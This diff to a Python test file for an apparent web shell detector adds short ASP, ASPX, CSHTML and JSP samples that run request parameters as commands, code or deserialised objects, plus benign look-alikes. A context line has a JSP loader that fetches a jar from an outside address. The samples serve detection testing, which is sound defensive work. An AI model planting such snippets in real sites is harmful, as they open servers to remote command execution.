@@ -205,6 +205,115 @@ def test_sees_what_runs_a_request(name, text):
             "a.jsp",
             '<% new URLClassLoader(new URL[]{new URL("http://203.0.113.9/a.jar")}); %>',
         ),
+        ("page-runs-request", "a.asp", '<% dim a(3)\na(0) = Request("x")\nExecute(a(0)) %>'),
+        (
+            "page-writes-request",
+            "a.asp",
+            (
+                '<% Set t = f.CreateTextFile(Server.MapPath(Request.ServerVariables("SC'
+                'RIPT_NAME")))\n'
+                't.Write Request("c") %>'
+            ),
+        ),
+        (
+            "page-writes-request",
+            "a.ashx",
+            (
+                '<%@ WebHandler Language="C#" Class="H"%>\npublic class H { void Proces'
+                "sRequest(C c)"
+                ' { File.WriteAllText(c.Request["f"], c.Request["d"]); } }'
+            ),
+        ),
+        (
+            "script-hides-name",
+            "a.asp",
+            (
+                '<% Execute "x = Acc" & q & "ount"\nExecute "y = Fol" & q & "der"\n'
+                'Execute "z = Na" & q & "me" %>'
+            ),
+        ),
+        (
+            "script-runs-decoded",
+            "a.asp",
+            (
+                '<% k = "' + "zx" * 120 + '"\nIf Session(1) = 0 Then Session(1) = turned(k)\n'
+                "k = Session(1)\nExecute k\nFunction turned(a)\nFor i = 1 To Len(a)\n"
+                "turned = Mid(a, i, 1) & turned\nNext\nEnd Function %>"
+            ),
+        ),
+        (
+            "script-hides-name",
+            "a.asp",
+            (
+                "<script language=jscript runat=server>var t = {'E': eval};\n"
+                "var s = 'a'; t.E(s + '');</script>"
+            ),
+        ),
+        (
+            "page-runs-request",
+            "a.aspx",
+            (
+                '<%@ Page Language="C#"%><% var p = new Process(); p.StartInfo.FileName = "cmd";'
+                'p.StartInfo.Arguments = "/c " + Request["c"]; p.Start(); %>'
+            ),
+        ),
+        (
+            "page-runs-request",
+            "a.aspx",
+            '<%@ Page Language="C#"%><% System.Windows.Markup.XamlReader.Parse(Request["x"]); %>',
+        ),
+        (
+            "page-runs-request",
+            "a.aspx",
+            (
+                '<%@ Page Language="C#"%><% new BinaryFormatter().Deserialize('
+                'new MemoryStream(Convert.FromBase64String(Request["o"]))); %>'
+            ),
+        ),
+        (
+            "page-runs-request",
+            "a.cshtml",
+            '@{ var p = Process.Start("cmd", "/c " + Request["c"]); }',
+        ),
+        (
+            "page-runs-request",
+            "a.jsp",
+            (
+                '${"".getClass().forName("javax.script.ScriptEngineManager").newInstanc'
+                "e().eval(param.x)}"
+            ),
+        ),
+        (
+            "page-runs-request",
+            "a.jsp",
+            "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')}",
+        ),
+        (
+            "page-runs-request",
+            "a.jsp",
+            (
+                '<% String[] a = {"sh", "-c", ""}; a[2] = request.getParameter("c");'
+                "Runtime.getRuntime().exec(a); %>"
+            ),
+        ),
+        (
+            "page-runs-request",
+            "a.jsp",
+            (
+                '<% Constructor c = Class.forName("java.lang.ProcessImpl").getDeclaredC'
+                "onstructors()[0];"
+                'c.newInstance(request.getParameter("c").getBytes(), null); %>'
+            ),
+        ),
+        (
+            "script-runs-decoded",
+            "a.jsp",
+            (
+                '<% byte[] b = Base64.getDecoder().decode("yv66vgAAADQAAAAA");'
+                'Method m = ClassLoader.class.getDeclaredMethod("defineClass"); m.invoke(l, b); %>'
+            ),
+        ),
+        ("page-runs-request", "a.jsp", '<% ognl.Ognl.getValue(request.getParameter("x"), o); %>'),
     ],
 )
 def test_sees_what_opens_the_machine(mark, name, text):
@@ -248,6 +357,20 @@ def test_sees_what_opens_the_machine(mark, name, text):
         ("a.aspx", '<%@ Page Language="C#"%><% l.Text = Request["x"]; Process.GetById(1); %>'),
         ("a.html", '<p>In ASP, &lt;%eval request("x")%&gt; runs code.</p>'),
         ("a.js", "var t = _.template('<%= eval(a) %>');"),
+        # An installer that writes its own pages into the folder that it is told.
+        (
+            "a.asp",
+            (
+                '<% Call Save("<" & "% n = 1 %" & ">", Request("dir") & "lock/done.txt")\n'
+                "Function Save(text, name)\ns.WriteText text\ns.SaveToFile Server.MapPa"
+                "th(name), 2\n"
+                "End Function %>"
+            ),
+        ),
+        ("a.asp", '<% m = Mid(t, 2, 1)\nExecute("r = r " & m & " l") %>'),
+        ("a.asp", '<% For i = 1 To 3\nExecute "a" & i & "b = 1"\nNext %>'),
+        ("a.jsp", "${fn:escapeXml(param.invoked)} ${item.class.simpleName}"),
+        ("a.jsp", '<% String[] a = {"sh"}; b[2] = request.getParameter("c"); Runtime.exec(a); %>'),
     ],
 )
 def test_leaves_alone(name, text):
